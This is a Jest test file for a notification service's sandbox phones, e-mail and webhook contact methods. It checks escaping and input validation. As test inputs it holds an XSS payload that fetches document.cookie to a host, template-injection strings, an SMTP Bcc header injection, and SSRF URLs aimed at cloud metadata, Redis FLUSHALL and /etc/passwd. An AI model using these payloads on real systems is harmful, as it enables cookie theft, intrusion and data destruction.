import { once } from 'node:events';
import { type IncomingMessage, request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { type ConfigTree, ContactEvent, type SandboxMessage } from '@tocsin/contracts';
import { freePort, testDatabase, type TestDatabase, until } from '@tocsin/test-rig';
import { type ParsedMail, simpleParser } from 'mailparser';
import { SMTPServer } from 'smtp-server';
import {
  aPage,
  type NotificationUnderTest,
  OPERATOR_TOKEN,
  startNotification,
  worldOf,
} from '../../notification.rig.js';

const XSS = `<img src=x onerror=alert(1)><script>fetch('//e/'+document.cookie)</script>`;
const TEMPLATE =
  "\"><svg/onload=alert`1`>{{constructor.constructor('alert(1)')()}}${7*7919}#{7*7919}<%= 7*7919 %>";

describe('sandbox phones, e-mail and contact methods', () => {
  let database: TestDatabase;
  let service: NotificationUnderTest;
  let tree: ConfigTree;
  let mailServer: SMTPServer;
  const mails: { mail: ParsedMail; to: string[] }[] = [];

  beforeAll(async () => {
    database = await testDatabase();
    const port = await freePort();
    mailServer = new SMTPServer({
      authOptional: true,
      disabledCommands: ['STARTTLS'],
      onRcptTo: ({ address }, _session, done) =>
        done(
          address.startsWith('gone') ? Object.assign(new Error('no such user'), { responseCode: 550 }) : null,
        ),
      onData: (stream, session, done) => {
        void simpleParser(stream).then((mail) => {
          mails.push({ mail, to: session.envelope.rcptTo.map(({ address }) => address) });
          done();
        });
      },
    });
    mailServer.listen(port, '127.0.0.1');
    tree = worldOf('http://127.0.0.1:9/', undefined, {
      language: 'zh-CN',
      contact: {
        desk: { sandbox: true },
        phone: { sms: '+65 8000 0001' },
        mail: { email: 'bo@example.com' },
        old: { email: 'gone@example.com' },
      },
      notify: {
        P1: [{ via: ['desk', 'phone'] }],
        P2: [{ via: 'mail' }],
        P3: [{ via: 'old' }, { via: 'desk', after: '10m' }],
      },
    });
    service = await startNotification(database.url, tree, {
      SMTP_URL: `smtp://127.0.0.1:${port}`,
      MAIL_FROM: 'Tocsin <tocsin@example.org>',
    });
  });
  afterAll(async () => {
    await service.stop();
    await new Promise<void>((resolve) => mailServer.close(resolve));
    await database.drop();
  });

  const messages = async (
    query = '',
  ): Promise<{ messages: (SandboxMessage & { kind: string })[]; next: string }> =>
    (await fetch(`${service.url}/v1/sandbox/messages${query}`)).json() as never;
  const receivedFor = (caseId: string) =>
    until(async () => {
      const found = (await messages('?person=bo')).messages.filter((m) => m.caseId === caseId);
      return found.length > 0 ? found : undefined;
    });

  it('lists what the phones received in the language of the person, by cursor', async () => {
    const page = aPage();
    await service.request(page);
    const received = await until(async () => {
      const found = await receivedFor(page.caseId);
      return found.length === 2 ? found : undefined;
    });
    expect(received.map(({ kind }) => kind).toSorted()).toEqual(['sandbox', 'sms']);
    expect(received[0]?.text).toContain('为何通知您：策略 live-pay，第 1 步，共 3 步');
    const { next } = await messages();
    expect(await messages(`?since=${next}`)).toEqual({ messages: [], next });
    expect((await fetch(`${service.url}/v1/sandbox/messages?since=x`)).status).toBe(422);
  });

  it.each([XSS, TEMPLATE])('shows foreign text as text: %s', async (subject) => {
    const page = aPage({ subject });
    await service.request(page);
    const [message] = await receivedFor(page.caseId);
    expect(message?.text).toContain(subject);
    const answer = await fetch(`${service.url}/sandbox`, { headers: { 'accept-language': 'zh' } });
    const html = await answer.text();
    expect(answer.headers.get('content-security-policy')).toContain("default-src 'self'");
    expect(html).not.toMatch(/<img|<svg|<script>|55433/);
    expect(html).toContain(
      subject.includes('img') ? '&lt;img src=x onerror=alert(1)&gt;' : '&quot;&gt;&lt;svg/onload',
    );
    expect(html).toContain('沙盒手机');
    expect(html).toMatch(/href="\/a\/[A-Za-z0-9_-]{22}"/);
  });

  it('shows the phones to this machine only', async () => {
    const asked = request(`${service.url}/v1/sandbox/messages`, { headers: { host: 'evil.example' } }).end();
    const [answer] = (await once(asked, 'response')) as [IncomingMessage];
    answer.resume();
    expect(answer.statusCode).toBe(401);
  });

  it('mails a page as text and HTML, to the person only, whatever the subject holds', async () => {
    const page = aPage({ priority: 'P2', subject: 'db down\r\nBcc: victim@example.org\r\n\r\nhi' });
    await service.request(page);
    const [sent] = await until(() => (mails.length > 0 ? mails : undefined));
    expect(sent?.to).toEqual(['bo@example.com']);
    expect(sent?.mail.subject).toContain('db down Bcc: victim@example.org hi');
    expect(sent?.mail.headers.has('bcc')).toBe(false);
    expect(sent?.mail.text).toMatch(/\/a\/[A-Za-z0-9_-]{22}/);
    expect(sent?.mail.html).toContain('<a href="http');
    await until(async () => {
      const [row] = await database.query<{ state: string }>(
        'SELECT state FROM notification.attempt WHERE case_id = $1',
        [page.caseId],
      );
      return row?.state === 'accepted';
    });
  });

  it('opens the next method at once when the address is refused for good', async () => {
    const page = aPage({ priority: 'P3' });
    await service.request(page);
    const [message] = await receivedFor(page.caseId);
    expect(message).toMatchObject({ method: 'desk', repeat: false });
  });

  const api = (method: string, path: string, body?: object, token = OPERATOR_TOKEN): Promise<Response> =>
    fetch(`${service.url}${path}`, {
      method,
      headers: {
        authorization: `Bearer ${token}`,
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });

  it('adds, lists and removes a webhook of a person, and never shows its secret', async () => {
    const secret = `whsec_${Buffer.alloc(24, 3).toString('base64')}`;
    const added = await api('POST', '/v1/contact-methods', {
      person: 'bo',
      kind: 'webhook',
      url: 'http://127.0.0.1:9/hook?k=1',
      secret,
    });
    expect(added.status).toBe(201);
    const view = (await added.json()) as { id: string };
    expect(view).toMatchObject({
      person: 'bo',
      kind: 'webhook',
      verified: true,
      by: 'person',
      address: 'http://127.0.0.1:9/…',
    });
    const listed = await (await api('GET', '/v1/contact-methods?person=bo')).text();
    expect(listed).toContain(view.id);
    expect(listed).toContain('"by":"config"');
    expect(listed).not.toContain(secret);
    const [row] = await database.query<{ secret: Buffer }>(
      'SELECT secret FROM notification.contact_method WHERE id = $1',
      [view.id],
    );
    expect(row?.secret.toString('latin1')).not.toContain(secret.slice(6));
    expect((await api('DELETE', `/v1/contact-methods/${view.id}`)).status).toBe(204);
    expect((await api('DELETE', `/v1/contact-methods/${view.id}`)).status).toBe(404);
    expect(await toldOf(view.id)).toEqual([
      '1 bo webhook P1-P5 true there',
      '2 bo webhook P1-P5 true removed',
    ]);
  });

  it('tells of methods that are older than the telling when it starts, each once', async () => {
    await database.query(
      `INSERT INTO notification.contact_method (id, tenant, person, kind, url, bands, created_by)
        VALUES ('hook-old', 'default', 'bo', 'webhook', 'https://example.com/x', 'P1-P2', 'ops')`,
    );
    for (const start of [1, 2]) {
      const another = await startNotification(database.url, tree);
      await another.stop();
      expect([start, await toldOf('hook-old')]).toEqual([start, ['1 bo webhook P1-P2 true there']]);
    }
    expect((await api('DELETE', '/v1/contact-methods/hook-old')).status).toBe(204);
  });

  /** What was told of a contact method, in its order. */
  async function toldOf(method: string): Promise<string[]> {
    const rows = await database.query<{ payload: string }>(
      `SELECT payload::text AS payload FROM notification.outbox WHERE topic = 'contacts' ORDER BY batch, n`,
    );
    return rows
      .map(({ payload }) => ContactEvent.parse(JSON.parse(payload)))
      .filter((event) => event.method === method)
      .map(({ version, person, channel, bands, verified, removed }) =>
        [version, person, channel, bands, verified, removed ? 'removed' : 'there'].join(' '),
      );
  }

  it.each([
    ['/url', { url: 'http://169.254.169.254/latest/meta-data/' }],
    ['/url', { url: 'gopher://127.0.0.1:6379/_FLUSHALL' }],
    ['/url', { url: 'file:///etc/passwd' }],
    ['/url', { url: 'http://[::ffff:10.0.0.1]/' }],
    ['/person', { person: 'constructor' }],
    ['/secret', { secret: 'not base64, but long enough' }],
  ])('refuses a contact method and names %s: %j', async (pointer, fault) => {
    const answer = await api('POST', '/v1/contact-methods', {
      person: 'bo',
      kind: 'webhook',
      url: 'http://127.0.0.1/',
      ...fault,
    });
    expect(answer.status).toBe(422);
    expect(await answer.json()).toMatchObject({ errors: [{ pointer }] });
  });

  it('asks for an operator', async () => {
    expect((await api('POST', '/v1/contact-methods', {}, 'wrong')).status).toBe(401);
  });

  it('lists the attempts of a case', async () => {
    const page = aPage();
    await service.request(page);
    await receivedFor(page.caseId);
    const { deliveries } = (await (
      await api('GET', `/v1/deliveries?case=${page.caseId.toLowerCase()}`)
    ).json()) as { deliveries: unknown[] };
    expect(deliveries).toHaveLength(2);
    expect((await api('GET', '/v1/deliveries?case=*')).status).toBe(422);
  });
});
